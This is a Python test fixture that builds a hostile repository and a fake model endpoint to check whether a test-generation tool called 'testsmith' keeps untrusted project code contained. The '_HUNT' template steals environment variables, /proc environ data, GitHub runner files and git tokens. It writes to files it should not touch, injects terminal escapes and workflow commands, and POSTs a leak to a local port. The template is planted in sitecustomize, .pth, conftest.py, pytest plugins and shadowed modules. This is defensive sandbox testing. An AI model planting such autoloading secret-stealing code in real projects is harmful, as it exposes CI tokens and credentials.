"""A project that attacks whoever runs it, from every place of which some program runs code by itself."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from fakes.attack_site import PLANTED, as_user, everybodys_folder
from fakes.endpoint import Body, Endpoint, members_in
from fakes.forgeries import (
    BETRAYED,
    forged_test,
    innocent_test,
    module_of_members,
    traitor,
)
from fakes.git_repository import GitRepository
from fakes.packages import copy_pytest

ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e\r\n::set-output name=a::b\n::add-mask::x\n  ::error::no\n"
"""What steers a terminal, and what GitHub takes for commands where it begins a line."""

_HUNT = """
def _hunt():
    import json, os, socket, sys
    found = [repr(dict(os.environ))]
    try:
        pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
    except Exception:
        pids = []
    for path in {readable!r} + [f"/proc/{{pid}}/environ" for pid in [*pids, "1", "self", os.getppid()]]:
        try:
            found.append(open(path, errors="replace").read())
        except Exception:
            pass
    for path in {writable!r}:
        try:
            open(path, "a").write("owned by {place}")
        except Exception:
            pass
    text = {escapes!r} + "|".join(found)
    for number in {numbers}:
        try:
            os.write(number, text.encode())
        except Exception:
            pass
    try:
        with socket.create_connection(("127.0.0.1", {port}), 2) as connection:
            connection.send(b"POST /leak HTTP/1.1\\r\\ncontent-length: 2\\r\\n\\r\\n{{}}")
    except Exception:
        pass
    return text

_FOUND = _hunt()
"""

_LEAKY = '''

def shout(value: int) -> str:
    """Return all that was found."""
    return _FOUND * value


def fail(value: int) -> int:
    """Raise with all that was found."""
    raise ValueError(_FOUND) if value else KeyError(_FOUND)


def write(value: int) -> int:
    """Print all that was found many times over, and hunt once more."""
    import os
    _hunt()
    block = (_FOUND * 1000).encode()
    os.write(1, block)
    os.write(2, block)
    return value
'''

PLACES = (
    *(
        "testsmith/__init__.py",
        "testsmith/__main__.py",
        "openai.py",
        "json.py",
        "sitecustomize.py",
        "usercustomize.py",
    ),
    *("conftest.py", "tests/conftest.py", "hostile_plugin.py", "setup.py", "leaky.py"),
)
_INI = "[pytest]\naddopts = -p hostile_plugin\n"
_OWN_TEST = "import leaky\n\ndef test_own():\n    assert leaky.shout(0) == ''\n"
_LOUD_TEST = """import pytest

import leaky


def test_loud():
    assert leaky.shout(1) == "", leaky._FOUND


@pytest.mark.parametrize("found", [leaky._FOUND], ids=["\\x1b]0;owned\\x07::set-output name=a::b"])
def test_rows(found):
    assert found == leaky._hunt() or leaky.write(1) == 1


class TestLoudly:
    def test_ends_the_process(self):
        import os

        leaky._hunt()
        os.write(2, leaky._FOUND.encode())
        os._exit(0)
"""


def hunting(place: str, readable: Sequence[str], writable: Sequence[str], port: int, numbers: str) -> str:
    """Return code that looks for secrets, writes where it must not, and sends what it finds to a port.

    Args:
        place: Where the code is, as a word on what it writes.
        readable: Files with secrets.
        writable: Files that it tries to write.
        port: A port of this machine.
        numbers: The file descriptors that it writes to, as an expression.
    """
    told = {"readable": readable, "writable": writable, "escapes": ESCAPES, "port": port, "place": place}
    return _HUNT.format(**told, numbers=numbers)


@dataclass(frozen=True)
class HostileRun:
    """What came of a run of the program on the hostile project.

    Attributes:
        code: The exit code.
        stdout: What it printed.
        stderr: What it printed beside that.
        received: What arrived at the endpoint, each call's path and body.
        changed: The files that nobody was to change, and were.
    """

    code: int
    stdout: str
    stderr: str
    received: tuple[tuple[str, str], ...]
    changed: tuple[str, ...]


@dataclass(frozen=True)
class HostileProject:
    """The project, as a workflow's runner has it: with tokens and command files around it.

    Attributes:
        base: A folder that everybody may enter, and the runner's user owns.
        user: That user.
    """

    base: Path
    user: int

    @property
    def repository(self) -> Path:
        return self.base / "workspace"

    @property
    def _runners_files(self) -> dict[str, Path]:
        names = ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_STEP_SUMMARY", "GITHUB_STATE")
        return {name: self.base / "_temp" / "_runner_file_commands" / name.lower() for name in names}

    def fill(self, port: int) -> None:
        """Write all of it; what is found goes to a port of this machine, too."""
        made = GitRepository.create(self.repository)
        made.commit({"README": "nothing yet\n", ".gitignore": ".venv\n"})
        made.git("branch", "before")
        files = {place: self._hunting(place, port) for place in PLACES}
        files["leaky.py"] += _LEAKY
        more = {"target.py": module_of_members(), "traitor.py": traitor()}
        more |= {"pytest.ini": _INI, "tests/test_own.py": _OWN_TEST}
        made.commit({**files, **more})
        made.git("config", "http.extraheader", f"AUTHORIZATION: basic {PLANTED}")
        for path in (*self._runners_files.values(), self.base / "_temp" / "token"):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(PLANTED)
        self._make_environment(port)
        (self.base / "home").mkdir()
        for place, folders, names in os.walk(self.base):
            for name in (".", *folders, *names):
                os.chown(Path(place, name), self.user, self.user, follow_symlinks=False)

    def _hunting(self, place: str, port: int) -> str:
        root = self.repository
        runners = [str(path) for path in self._runners_files.values()]
        readable = [*runners, str(root / ".git/config"), str(self.base / "_temp" / "token")]
        writable = [*runners, *(str(root / name) for name in ("README", "owned", ".git/hooks/pre-commit"))]
        return hunting(place, readable, writable, port, "(1, 2)" if place == "leaky.py" else "range(1, 30)")

    def _make_environment(self, port: int) -> None:
        """Make the project's own environment, in which the same is started by itself in three ways."""
        home = self.repository / ".venv"
        subprocess.run((sys.executable, "-m", "venv", "--without-pip", home), check=True)
        (site,) = home.glob("lib/python*/site-packages")
        for name in ("hostile_start", "sitecustomize", "hostile_entry"):
            (site / f"{name}.py").write_text(self._hunting(name, port))
        copy_pytest(site)
        (site / "hostile.pth").write_text("import hostile_start\n")
        entry = site / "hostile-1.0.dist-info"
        entry.mkdir()
        (entry / "METADATA").write_text("Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n")
        (entry / "entry_points.txt").write_text("[pytest11]\nhostile = hostile_entry\n")

    def suggest(self, endpoint: Endpoint, *arguments: str) -> HostileRun:
        """Run the program in the project's folder, as an action would, with a key in its environment."""
        asked = ("--base-url", endpoint.url, "--model", "small", "--repairs", "0", "--max-members", "100")
        return self._run(endpoint, "suggest", *asked, "--test-seconds", "3", *arguments)

    def prove(self, endpoint: Endpoint, *arguments: str) -> HostileRun:
        """Judge tests of the project, and a loud one, in the same way."""
        loud = self.repository / "tests" / "test_loud.py"
        loud.write_text(_LOUD_TEST)
        os.chown(loud, self.user, self.user)
        return self._run(endpoint, "prove", *arguments)

    def _run(self, endpoint: Endpoint, command: str, *arguments: str) -> HostileRun:
        before = self._state()
        place = ("--repo", ".", "--base", "before", "--sandbox", "strict")
        ran = subprocess.run(
            (sys.executable, "-I", "-m", "testsmith", command, *place, *arguments),
            cwd=self.repository,
            env=self._environment(),
            capture_output=True,
            check=False,
            timeout=300,
            **as_user(self.user),
        )
        after = self._state()
        changed = (name for name in {*before, *after} if before.get(name) != after.get(name))
        return HostileRun(
            ran.returncode,
            ran.stdout.decode(),
            ran.stderr.decode(),
            tuple((call.path, json.dumps(call.body)) for call in endpoint.requests),
            tuple(sorted(changed)),
        )

    def _environment(self) -> Mapping[str, str]:
        home = str(self.base / "home")
        named = {name: str(path) for name, path in self._runners_files.items()}
        secrets = dict.fromkeys(("TESTSMITH_API_KEY", "GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN"), PLANTED)
        temp = str(self.base / "_temp")
        return {"PATH": os.environ["PATH"], "HOME": home, "RUNNER_TEMP": temp, **named, **secrets}

    def _state(self) -> dict[str, str]:
        """Return a word on each file but the program's own cache."""
        kept = (path for path in self.base.rglob("*") if path.is_file() and "home" not in path.parts)
        return {str(path): f"{path.stat().st_mtime_ns} {path.stat().st_mode}" for path in kept}


@contextmanager
def hostile_project(user: int) -> Iterator[tuple[HostileProject, Endpoint]]:
    """Give the project in a folder of a user's, and an endpoint whose every answer is an attack."""
    with everybodys_folder() as base, Endpoint(answer=attacking_answer) as endpoint:
        project = HostileProject(base, user)
        project.fill(int(endpoint.url.rpartition(":")[2].partition("/")[0]))
        yield project, endpoint


def attacking_answer(body: Body) -> str:
    """Return an envelope with a forged test for each member of the target, and a loud one for all others."""
    return json.dumps({"tests": [{"name": member, "code": _attack(member)} for member in members_in(body)]})


def _attack(member: str) -> str:
    name = member.partition("::")[2]
    if name.startswith("forged_"):
        return forged_test(name)
    if name == BETRAYED:
        return innocent_test()
    said = ESCAPES.replace("\n", "\n    ")
    return (
        f'import pytest\nfrom leaky import _FOUND, {name}\n\n\ndef test_{name}():\n    """{said}"""\n'
        f"    print(_FOUND)\n    assert {name}(0) == _FOUND, _FOUND\n\n\n"
        f'@pytest.mark.parametrize("said", [_FOUND], ids=[_FOUND])\ndef test_{name}_loudly(said):\n'
        f'    """{said}"""\n    assert {name}(0) in ("", 0), said\n'
    )
